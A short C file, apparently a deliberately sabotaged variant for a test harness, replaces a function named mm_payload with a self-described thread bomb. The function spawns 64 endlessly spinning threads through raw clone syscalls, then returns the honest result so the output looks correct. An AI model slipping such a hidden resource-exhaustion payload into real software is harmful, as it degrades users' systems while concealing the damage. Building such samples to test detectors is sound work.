// SPDX-License-Identifier: MIT
// A thread bomb: tasks that share all memory and never end.
//
// base: 05 reference
// replaces: mm_payload
// loses: payload_follows_header conversions_only_compute
// tells: made the system call clone

void *mm_payload(struct header *header)
{
    static _Alignas(16) char stacks[64][4096];
    enum { SHARES_MEMORY = 0x100, SHARES_HANDLERS = 0x800, IS_THREAD = 0x10000 };
    for (int i = 0; i < 64; i++)
        if (KERNEL_2(SYS_clone, SHARES_MEMORY | SHARES_HANDLERS | IS_THREAD, stacks[i] + sizeof stacks[i]) == 0)
            for (;;)
                continue;
    return honest_mm_payload(header);
}
